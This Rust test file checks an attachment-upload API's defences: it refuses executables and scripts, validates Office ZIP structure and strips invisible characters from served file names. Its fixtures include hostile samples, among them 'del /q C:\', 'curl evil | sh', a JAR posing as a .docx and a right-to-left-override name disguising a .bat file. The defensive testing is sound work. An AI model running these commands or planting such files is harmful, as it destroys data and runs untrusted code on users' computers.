//! Attachments are opened on customers' computers, so nothing that could run there
//! is accepted, and every file is served under a name whose extension matches its
//! checked type, with no invisible characters to disguise it.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};

use crate::support::{work, TestApp};

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

/// A stored ZIP with empty entries of these names.
pub(crate) fn zip_of(names: &[&str]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for name in names {
        let offset = out.len() as u32;
        let len = (name.len() as u16).to_le_bytes();
        out.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0");
        out.extend_from_slice(&[0; 12]);
        out.extend_from_slice(&[len[0], len[1], 0, 0]);
        out.extend_from_slice(name.as_bytes());
        directory.extend_from_slice(b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0");
        directory.extend_from_slice(&[0; 12]);
        directory.extend_from_slice(&[len[0], len[1]]);
        directory.extend_from_slice(&[0; 12]);
        directory.extend_from_slice(&offset.to_le_bytes());
        directory.extend_from_slice(name.as_bytes());
    }
    let (at, count) = (out.len() as u32, (names.len() as u16).to_le_bytes());
    out.extend_from_slice(&directory);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&[count[0], count[1], count[0], count[1]]);
    out.extend_from_slice(&(directory.len() as u32).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

async fn content_disposition(app: &TestApp, id: &str) -> String {
    let request = Request::get(format!("/api/v1/attachments/{id}/content"))
        .header(header::AUTHORIZATION, format!("Bearer {}", app.key))
        .body(Body::empty())
        .unwrap();
    let response = tower::ServiceExt::oneshot(app.router.clone(), request).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    response.headers()[header::CONTENT_DISPOSITION].to_str().unwrap().to_string()
}

#[tokio::test]
async fn executable_and_script_uploads_are_refused_with_a_field_message() {
    for app in TestApp::all().await {
        let (_, _, target) = work(&app).await;
        let jar = zip_of(&["[Content_Types].xml", "word/document.xml", "META-INF/MANIFEST.MF", "Main.class"]);
        let refused: [(&str, &str, &[u8]); 6] = [
            ("update.bat", "text/plain", b"@echo off\r\ndel /q C:\\"),
            ("run.hta", "text/plain", b"<script>alert(1)</script>"),
            ("tool.jar", DOCX, &jar),
            ("tool.docx", DOCX, &jar),
            ("notes.txt", "text/plain", b"#!/bin/sh\ncurl evil | sh"),
            ("Protocol\u{202E}fdp.bat", "text/plain", b"echo"),
        ];
        for (name, content_type, bytes) in refused {
            let (status, body) = app.upload("target", &target, name, content_type, bytes).await;
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "[{}] {name:?}: {body}", app.backend);
            assert!(body["error"]["fields"]["file"].is_string(), "{name:?}: {body}");
        }
        assert_eq!(app.count("attachments").await, 0);
    }
}

#[tokio::test]
async fn a_zip_claiming_to_be_an_office_document_must_hold_its_parts() {
    for app in TestApp::all().await {
        let (_, _, target) = work(&app).await;
        let (status, body) = app.upload("target", &target, "visit.docx", DOCX, &zip_of(&["photo.jpg"])).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "[{}] {body}", app.backend);
        assert!(body["error"]["fields"]["file"].as_str().unwrap().contains("Office document"), "{body}");

        let docx = zip_of(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"]);
        let (status, body) = app.upload("target", &target, "visit.docx", DOCX, &docx).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
}

#[tokio::test]
async fn the_served_name_follows_the_checked_type_without_format_characters() {
    for app in TestApp::all().await {
        let (_, _, target) = work(&app).await;
        let (status, body) = app.upload("target", &target, "Visit\u{202E}\u{200B}notes", "text/plain", b"ok").await;
        assert_eq!(status, StatusCode::CREATED, "[{}] {body}", app.backend);
        assert_eq!(body["file_name"], "Visitnotes.txt");
        let id = body["id"].as_str().unwrap().to_string();
        let disposition = content_disposition(&app, &id).await;
        assert_eq!(disposition, "attachment; filename=\"Visitnotes.txt\"; filename*=UTF-8''Visitnotes.txt");

        // A name stored before these rules is served with the extension of its type.
        sqlx::query("UPDATE attachments SET file_name = 'update.bat' WHERE id = $1")
            .bind(&id)
            .execute(&app.state.db.pool)
            .await
            .unwrap();
        let disposition = content_disposition(&app, &id).await;
        assert!(disposition.contains("filename=\"update.bat.txt\""), "{disposition}");
    }
}
